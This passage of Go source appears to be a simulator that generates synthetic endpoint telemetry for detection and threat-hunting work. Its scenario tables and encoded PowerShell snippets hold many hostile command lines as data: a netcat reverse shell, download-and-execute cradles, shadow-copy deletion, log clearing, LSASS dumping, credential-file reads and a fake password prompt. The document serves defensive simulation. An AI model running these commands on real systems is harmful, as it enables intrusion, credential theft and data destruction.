	{"python3", `/usr/bin/python3.10`, "", "Python", "", "3.10.12", 5913032, osLinux, catApp, runInherit, 2 * time.Hour, false, "bash", []string{`python3 /opt/contoso/worker/worker.py --queue default --concurrency 4 --log-level info`, `/usr/bin/python3 /usr/bin/unattended-upgrade --download-only`}},
	{"curl", `/usr/bin/curl`, "", "curl", "", "7.81.0", 260328, osLinux, catLOLBin, runInherit, 5 * time.Second, false, "bash", []string{`curl -s -o /dev/null -w %{http_code} http://localhost:8080/healthz`, `curl -fsSL https://packages.microsoft.com/keys/microsoft.asc -o /tmp/microsoft.asc`}},
	{"wget", `/usr/bin/wget`, "", "wget", "", "1.21.2", 548568, osLinux, catLOLBin, runInherit, 5 * time.Second, false, "bash", []string{`wget -q https://github.com/prometheus/node_exporter/releases/download/v1.8.2/node_exporter-1.8.2.linux-amd64.tar.gz`}},
	{"java", `/usr/lib/jvm/java-17-openjdk-amd64/bin/java`, "", "OpenJDK", "", "17.0.12", 14480, osLinux, catServer, runInherit, 48 * time.Hour, false, "systemd", []string{`/usr/lib/jvm/java-17-openjdk-amd64/bin/java -Xms512m -Xmx2g -Dspring.profiles.active=prod -jar /opt/contoso/api/contoso-api.jar --server.port=8080`}},
	{"nginx", `/usr/sbin/nginx`, "", "nginx", "", "1.18.0", 1190632, osLinux, catServer, runSystem, 0, true, "", []string{`nginx: master process /usr/sbin/nginx -g daemon on; master_process on;`}},
	{"ps", `/usr/bin/ps`, "", "procps", "", "3.3.17", 137688, osLinux, catLOLBin, runInherit, time.Second, false, "bash", []string{`ps aux`, `ps -ef --forest`}},
	{"id", `/usr/bin/id`, "", "coreutils", "", "8.32", 47480, osLinux, catLOLBin, runInherit, time.Second, false, "bash", []string{`id`, `id -u`}},
	{"uname", `/usr/bin/uname`, "", "coreutils", "", "8.32", 35280, osLinux, catLOLBin, runInherit, time.Second, false, "bash", []string{`uname -a`, `uname -r`}},
	{"cat", `/usr/bin/cat`, "", "coreutils", "", "8.32", 35280, osLinux, catLOLBin, runInherit, time.Second, false, "bash", []string{`cat /var/log/nginx/access.log`, `cat /etc/os-release`}},
	{"kubelet", `/usr/local/bin/kubelet`, "", "Kubernetes", "", "1.29.7", 112070808, osLinux, catServer, runSystem, 0, true, "", []string{`/usr/local/bin/kubelet --enable-server --node-labels=agentpool=nodepool1,kubernetes.azure.com/role=agent --v=2 --kubeconfig=/var/lib/kubelet/kubeconfig`}},
	{"nc", `/usr/bin/nc.openbsd`, "", "netcat", "", "1.218", 35168, osLinux, catMalware, runInherit, time.Hour, false, "bash", []string{`nc -e /bin/sh {mip} 4444`}},
	// macOS.
	{"launchd", `/sbin/launchd`, "Apple Inc.", "macOS", "", "14.6", 340608, osMac, catSystem, runSystem, 0, true, "", []string{`/sbin/launchd`}},
	{"zsh", `/bin/zsh`, "Apple Inc.", "macOS", "", "5.9", 1361200, osMac, catShell, runUser, time.Hour, false, "Terminal", []string{`-zsh`, `/bin/zsh -c "brew update && brew upgrade --quiet"`}},
	{"Terminal", `/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal`, "Apple Inc.", "Terminal", "", "2.14", 9240240, osMac, catApp, runUser, 8 * time.Hour, false, "launchd", []string{`/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal`}},
	{"Google Chrome", `/Applications/Google Chrome.app/Contents/MacOS/Google Chrome`, "Google LLC", "Google Chrome", "", "131.0.6778.86", 178432, osMac, catBrowser, runUser, 8 * time.Hour, false, "launchd", []string{`/Applications/Google Chrome.app/Contents/MacOS/Google Chrome --type=renderer --lang=en-US --num-raster-threads=4 --enable-zero-copy --renderer-client-id={n3} --launch-time-ticks={n10} --field-trial-handle=1718379636,i,{big},{big},262144 --seatbelt-client={n3}`}},
	{"Safari", `/Applications/Safari.app/Contents/MacOS/Safari`, "Apple Inc.", "Safari", "", "17.6", 45168, osMac, catBrowser, runUser, 8 * time.Hour, false, "launchd", []string{`/Applications/Safari.app/Contents/MacOS/Safari`}},
	{"osascript", `/usr/bin/osascript`, "Apple Inc.", "macOS", "", "14.6", 87568, osMac, catLOLBin, runInherit, 5 * time.Second, false, "zsh", []string{`osascript -e 'tell application "System Events" to get name of every process'`}},
	{"softwareupdate", `/usr/sbin/softwareupdate`, "Apple Inc.", "macOS", "", "14.6", 1186352, osMac, catService, runSystem, 10 * time.Minute, false, "launchd", []string{`/usr/sbin/softwareupdate --background --list`}},
	{"curl-mac", `/usr/bin/curl`, "Apple Inc.", "curl", "", "8.7.1", 223264, osMac, catLOLBin, runInherit, 5 * time.Second, false, "zsh", []string{`curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh -o /tmp/brew-install.sh`}},
}

const (
	msCo    = "Microsoft Corporation"
	winProd = "Microsoft® Windows® Operating System"
)

// threat marks a suspicious process creation that raises an alert.
type threat struct {
	title, category, technique, severity, family string
}

// scenario is a parent → child process creation, with its relative weight.
type scenario struct {
	parent, child string
	w             float64
	roles         string // comma-separated roles it happens on ("" = any role of the child's OS)
	cmds          []string
	threat        *threat
	elevated      bool
	parsed        []*tmpl
}

// scenarioSpecs are the process creations the simulation draws from.
var scenarioSpecs = []scenario{
	// Windows background activity.
	{parent: "services.exe", child: "svchost.exe", w: 3},
	{parent: "svchost.exe", child: "taskhostw.exe", w: 5},
	{parent: "svchost.exe", child: "WmiPrvSE.exe", w: 3},
	{parent: "svchost.exe", child: "RuntimeBroker.exe", w: 4, roles: "workstation"},
	{parent: "svchost.exe", child: "dllhost.exe", w: 4},
	{parent: "svchost.exe", child: "backgroundTaskHost.exe", w: 4, roles: "workstation"},
	{parent: "svchost.exe", child: "SearchProtocolHost.exe", w: 3, roles: "workstation"},
	{parent: "svchost.exe", child: "CompatTelRunner.exe", w: 1},
	{parent: "svchost.exe", child: "MpCmdRun.exe", w: 1.5},
	{parent: "MsMpEng.exe", child: "MpCmdRun.exe", w: 2},
	{parent: "svchost.exe", child: "gpupdate.exe", w: 0.5},
	{parent: "services.exe", child: "msiexec.exe", w: 0.8},
	{parent: "msiexec.exe", child: "msiexec.exe", w: 0.6},
	{parent: "msiexec.exe", child: "regsvr32.exe", w: 0.3},
	{parent: "IntuneManagementExtension.exe", child: "powershell.exe", w: 3, roles: "workstation"},
	{parent: "MsSense.exe", child: "cmd.exe", w: 1.5},
	{parent: "MsSense.exe", child: "powershell.exe", w: 1},
	{parent: "powershell.exe", child: "conhost.exe", w: 5},
	{parent: "cmd.exe", child: "conhost.exe", w: 5},
	{parent: "svchost.exe", child: "cmd.exe", w: 1.5, cmds: []string{`C:\Windows\system32\cmd.exe /c "C:\ProgramData\Contoso\Agent\inventory.cmd" > C:\ProgramData\Contoso\Agent\inventory.log 2>&1`}},
	{parent: "svchost.exe", child: "powershell.exe", w: 1.5, cmds: []string{`powershell.exe -ExecutionPolicy Bypass -NoProfile -WindowStyle Hidden -File "C:\Program Files\Contoso\Agent\scripts\Send-Inventory.ps1" -Endpoint https://api.contoso.com/inventory -TimeoutSec 60`}},
	// Interactive work on workstations.
	{parent: "explorer.exe", child: "chrome.exe", w: 6, roles: "workstation"},
	{parent: "chrome.exe", child: "chrome.exe", w: 22, roles: "workstation"},
	{parent: "explorer.exe", child: "msedge.exe", w: 4, roles: "workstation"},
	{parent: "msedge.exe", child: "msedge.exe", w: 14, roles: "workstation"},
	{parent: "explorer.exe", child: "OUTLOOK.EXE", w: 1.5, roles: "workstation"},
	{parent: "explorer.exe", child: "WINWORD.EXE", w: 1.5, roles: "workstation"},
	{parent: "OUTLOOK.EXE", child: "WINWORD.EXE", w: 0.8, roles: "workstation"},
	{parent: "explorer.exe", child: "EXCEL.EXE", w: 1.5, roles: "workstation"},
	{parent: "OUTLOOK.EXE", child: "msedge.exe", w: 0.8, roles: "workstation", cmds: []string{`"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --single-argument {url}`}},
	{parent: "explorer.exe", child: "ms-teams.exe", w: 1.2, roles: "workstation"},
	{parent: "explorer.exe", child: "OneDrive.exe", w: 0.8, roles: "workstation"},
	{parent: "explorer.exe", child: "notepad.exe", w: 1, roles: "workstation"},
	{parent: "explorer.exe", child: "Acrobat.exe", w: 0.8, roles: "workstation"},
	{parent: "explorer.exe", child: "Code.exe", w: 0.8, roles: "workstation"},
	{parent: "explorer.exe", child: "cmd.exe", w: 1, roles: "workstation"},
	{parent: "explorer.exe", child: "powershell.exe", w: 0.8, roles: "workstation"},
	{parent: "explorer.exe", child: "rundll32.exe", w: 0.6, roles: "workstation"},
	{parent: "explorer.exe", child: "mshta.exe", w: 0.05, roles: "workstation"},
	{parent: "Code.exe", child: "cmd.exe", w: 0.8, roles: "workstation"},
	{parent: "Code.exe", child: "powershell.exe", w: 0.5, roles: "workstation"},
	{parent: "cmd.exe", child: "whoami.exe", w: 0.3},
	{parent: "cmd.exe", child: "ipconfig.exe", w: 0.6},
	{parent: "cmd.exe", child: "ping.exe", w: 0.6},
	{parent: "cmd.exe", child: "net.exe", w: 0.5},
	{parent: "cmd.exe", child: "nltest.exe", w: 0.15},
	{parent: "cmd.exe", child: "reg.exe", w: 0.4},
	{parent: "cmd.exe", child: "tasklist.exe", w: 0.4},
	{parent: "cmd.exe", child: "systeminfo.exe", w: 0.2},
	{parent: "cmd.exe", child: "schtasks.exe", w: 0.3},
	{parent: "cmd.exe", child: "sc.exe", w: 0.3},
	{parent: "cmd.exe", child: "certutil.exe", w: 0.1},
	{parent: "cmd.exe", child: "vssadmin.exe", w: 0.1},
	{parent: "cmd.exe", child: "wevtutil.exe", w: 0.1},
	{parent: "cmd.exe", child: "wmic.exe", w: 0.3},
	{parent: "cmd.exe", child: "bitsadmin.exe", w: 0.05},
	{parent: "cmd.exe", child: "bcdedit.exe", w: 0.05},
	{parent: "cmd.exe", child: "netsh.exe", w: 0.3},
	{parent: "cmd.exe", child: "curl.exe", w: 0.3},
	{parent: "cmd.exe", child: "findstr.exe", w: 0.4},
	{parent: "cmd.exe", child: "gpupdate.exe", w: 0.2},
	{parent: "cmd.exe", child: "PsExec64.exe", w: 0.05, roles: "workstation"},
	{parent: "powershell.exe", child: "whoami.exe", w: 0.1},
	{parent: "powershell.exe", child: "ipconfig.exe", w: 0.2},
	{parent: "powershell.exe", child: "net.exe", w: 0.2},
	{parent: "powershell.exe", child: "cmd.exe", w: 0.4},
	// Servers.
	{parent: "svchost.exe", child: "w3wp.exe", w: 1.5, roles: "web"},
	{parent: "w3wp.exe", child: "conhost.exe", w: 0.5, roles: "web"},
	{parent: "sqlservr.exe", child: "cmd.exe", w: 0.4, roles: "sql", cmds: []string{`cmd.exe /c "C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\SQLAGENT.EXE" -i MSSQLSERVER`}},
	{parent: "services.exe", child: "powershell.exe", w: 0.6, roles: "dc,file,sql,web", cmds: []string{`powershell.exe -NoProfile -NonInteractive -Command "Get-WinEvent -LogName 'Microsoft-Windows-Backup' -MaxEvents 50 | Where-Object { $_.LevelDisplayName -eq 'Error' } | Select-Object TimeCreated, Id, Message"`}},
	// Linux.
	{parent: "sshd", child: "bash", w: 2, roles: "linux-web,k8s"},
	{parent: "cron", child: "sh", w: 4, roles: "linux-web,k8s"},
	{parent: "sh", child: "python3", w: 1.5},
	{parent: "bash", child: "sudo", w: 1.5},
	{parent: "bash", child: "python3", w: 1},
	{parent: "bash", child: "curl", w: 1.2},
	{parent: "bash", child: "wget", w: 0.3},
	{parent: "bash", child: "ps", w: 0.8},
	{parent: "bash", child: "id", w: 0.4},
	{parent: "bash", child: "uname", w: 0.4},
	{parent: "bash", child: "cat", w: 0.8},
	{parent: "containerd-shim-runc-v2", child: "java", w: 0.6, roles: "k8s"},
	{parent: "containerd-shim-runc-v2", child: "sh", w: 3, roles: "k8s", cmds: []string{`/bin/sh -c "wget -q -O- http://localhost:8080/actuator/health || exit 1"`}},
	{parent: "systemd", child: "java", w: 0.3, roles: "linux-web"},
	{parent: "nginx", child: "sh", w: 0.02, roles: "linux-web", cmds: []string{`sh -c "id; uname -a; cat /etc/passwd"`}, threat: &threat{"Suspicious command execution via web server process", "Execution", "T1505.003", "High", "WebShell"}},
	// macOS.
	{parent: "launchd", child: "Terminal", w: 0.5, roles: "mac"},
	{parent: "Terminal", child: "zsh", w: 1.5, roles: "mac"},
	{parent: "launchd", child: "Google Chrome", w: 2, roles: "mac"},
	{parent: "launchd", child: "Safari", w: 1, roles: "mac"},
	{parent: "launchd", child: "softwareupdate", w: 0.5, roles: "mac"},
	{parent: "zsh", child: "curl-mac", w: 0.8, roles: "mac"},
	{parent: "zsh", child: "osascript", w: 0.3, roles: "mac"},

	// Suspicious activity that hunting queries look for.
	{parent: "WINWORD.EXE", child: "powershell.exe", w: 0.03, roles: "workstation", cmds: []string{`powershell.exe -nop -w hidden -enc {b64}`, `"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand {b64}`},
		threat: &threat{"Suspicious PowerShell command line", "Execution", "T1059.001", "High", "PowEmotet"}},
	{parent: "EXCEL.EXE", child: "cmd.exe", w: 0.015, roles: "workstation", cmds: []string{`cmd.exe /c powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('{murl}/invoice.ps1')"`},
		threat: &threat{"Suspicious process launched by Office application", "InitialAccess", "T1566.001", "High", "Qakbot"}},
	{parent: "explorer.exe", child: "powershell.exe", w: 0.02, roles: "workstation", cmds: []string{`powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command "IEX (New-Object Net.WebClient).DownloadString('{murl}/a.ps1')"`, `powershell -c "Add-MpPreference -ExclusionPath 'C:\Users\Public','C:\ProgramData\AnyDesk'; Set-MpPreference -DisableRealtimeMonitoring $true"`},
		threat: &threat{"Suspicious PowerShell download or encoded command", "Execution", "T1059.001", "Medium", ""}},
	{parent: "cmd.exe", child: "certutil.exe", w: 0.02, cmds: []string{`certutil.exe -urlcache -split -f {murl}/update.exe C:\Users\Public\update.exe`, `certutil -urlcache -f {murl}/p.b64 C:\Windows\Temp\p.b64 && certutil -decode C:\Windows\Temp\p.b64 C:\Windows\Temp\p.dll`},
		threat: &threat{"Suspicious file download using certutil", "CommandAndControl", "T1105", "Medium", ""}},
	{parent: "cmd.exe", child: "vssadmin.exe", w: 0.01, roles: "workstation,file,sql", cmds: []string{`vssadmin.exe delete shadows /all /quiet`, `vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB`},
		threat: &threat{"File backups were deleted", "Impact", "T1490", "High", "Ransomware"}},
	{parent: "cmd.exe", child: "wevtutil.exe", w: 0.01, cmds: []string{`wevtutil.exe cl Security`, `wevtutil cl System`, `wevtutil cl "Windows PowerShell"`},
		threat: &threat{"Event log was cleared", "DefenseEvasion", "T1070.001", "Medium", ""}},
	{parent: "cmd.exe", child: "net.exe", w: 0.015, cmds: []string{`net user helpdesk_adm P@ssw0rd!2024 /add`, `net localgroup administrators helpdesk_adm /add`, `net group "Domain Admins" /domain`, `net user /domain`},
		threat: &threat{"New local admin added or account discovery", "Persistence", "T1136.001", "Medium", ""}},
	{parent: "cmd.exe", child: "schtasks.exe", w: 0.015, cmds: []string{`schtasks.exe /create /tn "\Microsoft\Windows\UpdateOrchestrator\UpdateCheck" /tr "powershell.exe -w hidden -enc {b64}" /sc onlogon /ru SYSTEM /f`, `schtasks /create /sc minute /mo 30 /tn OneDriveSync /tr "C:\Users\{user}\AppData\Roaming\Microsoft\svch0st.exe" /f`},
		threat: &threat{"Suspicious scheduled task", "Persistence", "T1053.005", "Medium", ""}},
	{parent: "cmd.exe", child: "whoami.exe", w: 0.02, cmds: []string{`whoami /all`, `whoami /groups /fo list`}},
	{parent: "powershell.exe", child: "mimikatz.exe", w: 0.006, roles: "workstation,dc",
		threat: &threat{"Mimikatz credential theft tool", "CredentialAccess", "T1003.001", "High", "Mimikatz"}},
	{parent: "cmd.exe", child: "procdump64.exe", w: 0.006,
		threat: &threat{"Possible credential dump from LSASS memory", "CredentialAccess", "T1003.001", "High", ""}},
	{parent: "cmd.exe", child: "rundll32.exe", w: 0.008, cmds: []string{`rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump {lpid} C:\Windows\Temp\debug.bin full`, `rundll32.exe C:\Users\{user}\AppData\Local\Temp\{hex8}.dll,DllRegisterServer`},
		threat: &threat{"Suspicious rundll32 execution", "DefenseEvasion", "T1218.011", "High", ""}},
	{parent: "cmd.exe", child: "regsvr32.exe", w: 0.006, cmds: []string{`regsvr32.exe /s /n /u /i:{murl}/file.sct scrobj.dll`},
		threat: &threat{"Regsvr32 used to run a remote script (Squiblydoo)", "DefenseEvasion", "T1218.010", "High", ""}},
	{parent: "explorer.exe", child: "mshta.exe", w: 0.006, roles: "workstation", cmds: []string{`"C:\Windows\System32\mshta.exe" vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell -nop -w hidden -enc {b64}"",0:close")`, `mshta.exe {murl}/index.hta`},
		threat: &threat{"Suspicious mshta process", "DefenseEvasion", "T1218.005", "High", ""}},
	{parent: "cmd.exe", child: "bitsadmin.exe", w: 0.006, cmds: []string{`bitsadmin /transfer updjob /download /priority high {murl}/a.exe C:\Users\Public\a.exe`},
		threat: &threat{"Suspicious BITS transfer", "CommandAndControl", "T1197", "Medium", ""}},
	{parent: "WmiPrvSE.exe", child: "powershell.exe", w: 0.01, cmds: []string{`powershell.exe -nop -exec bypass -EncodedCommand {b64}`},
		threat: &threat{"Suspicious process executed through WMI", "Execution", "T1047", "High", ""}},
	{parent: "cmd.exe", child: "wmic.exe", w: 0.006, cmds: []string{`wmic /node:{srv} process call create "powershell -w hidden -enc {b64}"`, `wmic shadowcopy delete`},
		threat: &threat{"Remote process creation using WMIC", "LateralMovement", "T1047", "Medium", ""}},
	{parent: "cmd.exe", child: "bcdedit.exe", w: 0.005, cmds: []string{`bcdedit /set {default} recoveryenabled No`, `bcdedit /set {default} bootstatuspolicy ignoreallfailures`},
		threat: &threat{"System recovery setting tampering", "Impact", "T1490", "High", "Ransomware"}},
	{parent: "w3wp.exe", child: "cmd.exe", w: 0.02, roles: "web", cmds: []string{`cmd.exe /c whoami & ipconfig /all & net user`, `cmd /c powershell -c "IEX (New-Object Net.WebClient).DownloadString('{murl}/s.ps1')"`},
		threat: &threat{"Suspicious web shell execution", "Persistence", "T1505.003", "High", "WebShell"}},
	{parent: "cmd.exe", child: "rclone.exe", w: 0.004, roles: "workstation,file",
		threat: &threat{"Possible data exfiltration using rclone", "Exfiltration", "T1567.002", "High", ""}},
	{parent: "cmd.exe", child: "AnyDesk.exe", w: 0.004, roles: "workstation",
		threat: &threat{"Remote access software installed", "CommandAndControl", "T1219", "Low", ""}},
	{parent: "powershell.exe", child: "svch0st.exe", w: 0.005, roles: "workstation",
		threat: &threat{"Masquerading process name", "DefenseEvasion", "T1036.005", "High", "CobaltStrike"}},
	{parent: "bash", child: "wget", w: 0.02, cmds: []string{`wget -q -O /tmp/.x {murl}/x86_64 && chmod +x /tmp/.x && /tmp/.x`},
		threat: &threat{"Suspicious file download and execution", "Execution", "T1105", "Medium", "CoinMiner"}},
	{parent: "bash", child: "curl", w: 0.02, cmds: []string{`curl -fsSL {murl}/install.sh | bash`, `curl -s http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/ -H Metadata:true`},
		threat: &threat{"Suspicious download piped to shell", "Execution", "T1059.004", "Medium", ""}},
	{parent: "bash", child: "cat", w: 0.01, cmds: []string{`cat /etc/shadow`, `cat /root/.ssh/id_rsa`},
		threat: &threat{"Sensitive credential file read", "CredentialAccess", "T1003.008", "Medium", ""}},
	{parent: "bash", child: "nc", w: 0.005, threat: &threat{"Reverse shell", "Execution", "T1059.004", "High", ""}},
	{parent: "zsh", child: "osascript", w: 0.01, roles: "mac", cmds: []string{`osascript -e 'display dialog "macOS needs to access System Settings. Please enter your password." default answer "" with title "System Preferences" with icon caution with hidden answer'`},
		threat: &threat{"Suspicious password prompt via osascript", "CredentialAccess", "T1056.002", "Medium", "AtomicStealer"}},
}

// PowerShell snippets for -EncodedCommand blobs (UTF-16LE, base64), as
// attackers encode them.
var encodedSnippets = []string{
	`IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a')`,
	`$c=New-Object System.Net.Sockets.TCPClient('45.137.21.9',443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0}`,
	`[System.Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://files-share.xyz/l.bin')).EntryPoint.Invoke($null,$null)`,
	`Invoke-WebRequest -Uri http://91.240.118.172/svc.exe -OutFile $env:APPDATA\Microsoft\svch0st.exe; Start-Process $env:APPDATA\Microsoft\svch0st.exe`,
	`Get-ADComputer -Filter * -Properties * | Select Name,OperatingSystem,IPv4Address | Export-Csv C:\Users\Public\c.csv`,
	`sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('7b0HYBxJliUmL23Ke39K9UrX4HShCIBg'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`,
}

func encodePS(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i] = byte(c)
		b[2*i+1] = byte(c >> 8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

var docNames = []string{"Q3 Budget Review", "Invoice_20241118", "Project Falcon Plan", "Board Minutes", "Sales Forecast FY25",
	"Onboarding Checklist", "Vendor Contract - Fabrikam", "Payroll Adjustments", "Security Awareness", "Quarterly Report",
	"Purchase Order 4471", "Resume - Final", "Architecture Overview", "Shipping Notice", "Remittance Advice"}

// binaryTable indexes the binaries.
type binaryTable struct {
	list   []*binary
	byName map[string]*binary // key: name + "|" + os
}

func (bt *binaryTable) get(name string, os osKind) *binary {
	return bt.byName[name+"|"+string(rune('0'+os))]
}

func buildBinaries() *binaryTable {
	bt := &binaryTable{byName: map[string]*binary{}}
	for i, s := range binarySpecs {
		b := &binary{idx: i, name: s.name, path: s.path, os: s.os, company: s.company, product: s.product,
			desc: s.desc, version: s.version, size: s.size, cat: s.cat, run: s.run, life: s.life, root: s.root, parent: s.parent}
		if b.name == "curl-mac" {
			b.name = "curl"
		}
		b.sha1, b.sha256, b.md5 = hashes(s.path + "|" + s.version)
		switch {
		case s.cat == catMalware && s.company == "":
			b.signerType, b.sigStatus = "Unknown", "Unsigned"
		case s.company == msCo && s.os == osWindows:
			b.signerType, b.sigStatus = "OsVendor", "Valid"
		case s.cat == catMalware && s.name == "mimikatz.exe":
			b.signerType, b.sigStatus = "ThirdParty", "Invalid"
		case s.os == osWindows:
			b.signerType, b.sigStatus = "ThirdParty", "Valid"
		case s.os == osMac:
			b.signerType, b.sigStatus = "OsVendor", "Valid"
		default:
			b.signerType, b.sigStatus = "Unknown", "Unknown"
		}
		for _, c := range s.cmds {
			b.cmds = append(b.cmds, parseTmpl(c))
		}
		b.bx = binBox{name: b.name, company: b.company, product: b.product, version: b.version, desc: b.desc,
			internal: internalName(b), sha1: b.sha1, sha256: b.sha256, md5: b.md5, signerType: b.signerType,
			sigStatus: b.sigStatus, size: b.size}
		bt.list = append(bt.list, b)
		bt.byName[s.name+"|"+string(rune('0'+s.os))] = b
	}
	return bt
}

// tmpl is a command line template: literal text with {placeholders}.
type tmpl struct {
	parts []tmplPart
	size  int
}

type tmplPart struct {
	lit string
	ph  string // placeholder name, or "" for a literal
}

func parseTmpl(s string) *tmpl {
	t := &tmpl{}
	for len(s) > 0 {
		i := strings.IndexByte(s, '{')
		if i < 0 {
			t.parts = append(t.parts, tmplPart{lit: s})
			break
		}
		j := strings.IndexByte(s[i:], '}')
		name := ""
		if j > 0 {
			name = s[i+1 : i+j]
		}
		if j < 0 || !isPlaceholder(name) {
			// Not a placeholder ({default}, %{http_code}, {AB89…}): keep as text.
			t.parts = append(t.parts, tmplPart{lit: s[:i+1]})
			s = s[i+1:]
			continue
		}
		if i > 0 {
			t.parts = append(t.parts, tmplPart{lit: s[:i]})
		}
		t.parts = append(t.parts, tmplPart{ph: name})
		s = s[i+j+1:]
	}
	for _, p := range t.parts {
		t.size += len(p.lit) + 16
	}
	return t
}

var placeholders = map[string]bool{"user": true, "host": true, "guid": true, "GUID": true, "n3": true, "n4": true,
	"n6": true, "n10": true, "big": true, "hex5": true, "hex8": true, "hex64": true, "HEX32": true, "b64": true,
	"b64s": true, "url": true, "murl": true, "mip": true, "doc": true, "dc": true, "srv": true, "lpid": true}

func isPlaceholder(s string) bool { return placeholders[s] }
